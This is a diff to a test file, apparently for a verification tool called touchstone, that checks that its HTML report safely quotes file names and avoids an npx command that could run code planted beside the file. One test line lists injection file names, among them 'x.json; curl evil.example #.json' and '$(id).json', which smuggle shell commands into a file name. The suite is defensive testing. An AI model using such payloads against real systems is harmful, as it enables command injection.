@@ -38,7 +38,12 @@ describe('attack 146: a file whose name is a verdict', () => {
       const [file, page] = [join(folder, name), join(folder, 'typed.html')]
       writeFileSync(file, readFileSync(genuine))
       expect((await commands.run(['report', file, '--html', page])).status).toBe(0)
-      return /npx touchstone check (.*) --trust KEY/.exec(readFileSync(page, 'utf8'))?.[1]
+      const html = readFileSync(page, 'utf8')
+      // Whoever opens it later reads when that was.
+      expect(/issued .*Z, .* before this check$/m.test(html)).toBe(true)
+      // Attack 371: npx would run what the sender put beside the file.
+      const line = />touchstone check (.*) --trust KEY, .* Get the program from its own source/
+      return line.exec(html)?.[1]
     }
     expect(await typed('box-1.json')).toBe(join(folder, 'box-1.json'))
     for (const name of ['x.json; curl evil.example #.json', '$(id).json', '--policy.json', 'a b.json'])
